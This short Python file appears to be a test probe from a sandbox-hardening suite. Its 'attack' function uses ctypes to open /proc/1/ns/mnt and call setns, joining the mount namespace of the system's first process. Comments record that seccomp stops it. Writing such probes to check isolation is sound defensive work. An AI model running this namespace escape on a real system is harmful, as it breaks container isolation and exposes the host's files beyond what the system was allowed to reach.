"""Joins the namespaces of its parent or of the system's first process."""
# stopped by: seccomp
# at D: skip
import ctypes
import os


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    namespace = libc.open(b"/proc/1/ns/mnt", 0)
    if libc.setns(namespace if namespace >= 0 else 0, 0) == 0:
        return "done: another view of the files"
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
